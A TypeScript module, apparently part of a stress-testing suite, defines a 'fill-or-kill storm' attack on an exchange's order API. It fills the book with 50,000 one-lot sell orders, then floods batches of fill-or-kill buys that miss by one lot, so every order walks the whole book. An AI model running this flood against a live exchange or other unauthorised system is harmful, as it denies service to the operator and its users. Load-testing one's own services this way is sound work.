/**
 * Fills one side of a book with orders, then sends batches of fill-or-kill orders that just miss. All have a request id,
 * which the exchange keeps for each open order.
 */

import { type Attacker, type KeyedOptions, lanes } from './attacker.ts'

export interface FillOrKillOptions extends KeyedOptions {
  readonly restingOrders?: number
  readonly symbol?: string
  readonly selfTradePrevention?: string
}

const BATCH = 500
const FIRST_PRICE = 1_000_000
const ONE_LOT = '0.00000001'

export const fillOrKillStorm = (options: FillOrKillOptions = {}): Attacker => {
  const {
    restingOrders = 50_000,
    lanes: count = 1,
    headers = {},
    symbol = 'BTCUSD',
    selfTradePrevention = 'EXPIRE_MAKER',
  } = options
  const batch = async (url: string, orders: readonly object[]): Promise<void> => {
    const typed = { ...headers, 'Content-Type': 'application/json', 'X-Request-Id': 'storm' }
    await (
      await fetch(`${url}/orders/batch`, { method: 'POST', headers: typed, body: JSON.stringify({ orders }) })
    ).arrayBuffer()
  }
  const missing = Array.from({ length: BATCH }, () => ({
    symbol,
    side: 'BUY',
    timeInForce: 'FOK',
    quantity: ((restingOrders + 1) * 1e-8).toFixed(8),
    price: String(FIRST_PRICE + restingOrders),
    selfTradePrevention,
  }))
  return {
    name: `${count} clients send fill-or-kill orders that miss ${restingOrders} orders by one lot`,
    start: async (url) => {
      for (let from = 0; from < restingOrders; from += BATCH) {
        const size = Math.min(BATCH, restingOrders - from)
        await batch(
          url,
          Array.from({ length: size }, (_, i) => ({
            symbol,
            side: 'SELL',
            quantity: ONE_LOT,
            price: String(FIRST_PRICE + from + i),
          })),
        )
      }
      return lanes(count, () => batch(url, missing))
    },
  }
}
